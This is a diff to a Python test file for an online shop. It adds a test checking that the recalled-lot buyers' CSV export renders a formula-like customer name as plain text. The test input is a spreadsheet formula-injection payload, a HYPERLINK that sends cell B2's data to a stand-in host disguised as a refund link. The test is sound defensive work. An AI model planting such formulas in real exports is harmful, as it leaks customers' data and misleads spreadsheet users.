@@ -276,3 +276,21 @@ def test_a_product_whose_only_lot_is_recalled_shows_unavailable(client, site):
     assert bands() == {"out_of_stock"}
     with site.app.app_context():
         assert all(row.available == 0 for row in availability_of_product(site.product_id, today(), 5))
+
+
+def test_the_buyers_csv_writes_a_formula_like_name_as_text(client, site):
+    from shop.orders.services import Contact
+    from tests.core.test_export_escaping import assert_csv_has_no_formula
+
+    name = '=HYPERLINK("http://evil.example/?"&B2,"Hoàn tiền")'
+    with site.app.app_context():
+        lot = site.lot()
+        point = db.session.scalar(sa.select(Order).where(Order.number == site.order_number)).point
+        orders.create_order(point, [(lot.product, 1)], fulfilment="pickup", payment_method="pay_at_pickup",
+                            contact=Contact(name=name, phone="+84912000111", email="x@example.vn"))
+        db.session.commit()
+    site.recall_now()
+    login(client, "officer@example.vn")
+    response = client.get(f"/department/recalls/{site.lot_id}/buyers.csv")
+    assert response.status_code == 200
+    assert_csv_has_no_formula(response.data, [name])
